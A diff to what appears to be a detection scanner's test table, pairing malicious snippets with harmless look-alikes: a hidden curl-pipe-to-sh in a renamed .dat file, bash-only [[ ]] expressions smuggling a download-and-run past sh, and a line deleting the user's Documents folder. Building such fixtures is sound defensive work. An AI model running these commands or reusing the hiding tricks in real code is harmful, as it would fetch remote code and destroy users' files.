@@ -100,3 +100,13 @@ MANY["index.js"] = "".join("require('./d/f%d.dat');\n" % i for i in range(390))
 row(1, True, "the last of many files that are loaded under other names",
     dict(MANY, **{"d/f389.dat": "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n"}), least="review")
 row(1, False, "many files that are loaded under other names", MANY)
+
+# ---- expressions of bash that sh takes for commands -------------------------------------------------
+
+BASH = "#!/bin/bash\nname=$1\n%s\necho done\n"
+for line, harmless in (("[[ x || curl -so /tmp/a http://192.0.2.1/a ]]; [[ x || sh /tmp/a ]]\n", "[[ -n \"$name x\" || $name == \"curl http\" ]] && echo ok\n"),
+                       ("[[ x\ncurl -so /tmp/a http://192.0.2.1/a\nsh /tmp/a ]]\n", "[[ -n $name &&\n -n \"$2\"\n || ( $name =~ ^(sh|curl)$ ) ]] && echo ok\n"),
+                       ("[[\ncurl -so /tmp/a http://192.0.2.1/a\nsh /tmp/a ]]\n", "[[\n -n $name ]] && echo ok\n")):
+    told(1, "a command in an expression that only bash knows", "install.sh", BASH, line, harmless)
+told(45, "what somebody made is removed", "clean.js", "const fs = require('fs'), os = require('os'), path = require('path');\nexports.clean = function (dir) {\n%s  return dir;\n};\n",
+     "  fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true });\n", "  fs.rmSync(path.join(os.homedir(), '.sample-tool'), { recursive: true, force: true });\n")
